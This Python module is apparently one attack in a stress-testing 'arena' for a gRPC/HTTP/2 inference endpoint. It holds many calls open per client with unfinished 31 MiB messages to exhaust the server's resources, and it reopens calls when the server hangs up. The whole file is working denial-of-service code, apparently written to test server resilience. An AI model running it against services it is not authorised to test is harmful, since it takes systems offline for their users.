"""Messages that are never whole: all of 31 MiB but the last bytes, then silence."""

import itertools
import time

from .arena import Attack, Target, in_threads, strike_from_command_line
from .h2 import INFER, Connection, prefixed

ATTACK = Attack(
    "unfinished Infer", "31 MiB without their last bytes, 30 calls on each of 6 clients"
)
CLIENTS, CALLS, SIZE = 6, 30, 31 << 20


def strike(target: Target, path: str = INFER) -> None:
    """Open calls, send what fits, and keep them open; start again when the server hangs up."""

    def hold(number: int) -> None:
        connection = Connection(target.grpc)
        body = prefixed(bytes(1 << 20), SIZE)
        open_calls: dict[int, int] = {}
        for turn in itertools.count():
            if len(open_calls) < CALLS:
                open_calls[connection.call(path)] = 0
            for stream, sent in list(open_calls.items()):
                if sent < 30 and connection.has_room(stream):
                    try:
                        connection.send(stream, body if not sent else bytes(1 << 20), wait_s=1)
                        open_calls[stream] = sent + 1
                    except TimeoutError:
                        pass  # no room for more
                    except KeyError:
                        del open_calls[stream]
            if turn % CALLS == 0:
                time.sleep(0.01)

    in_threads(CLIENTS, hold)


if __name__ == "__main__":
    strike_from_command_line(strike)
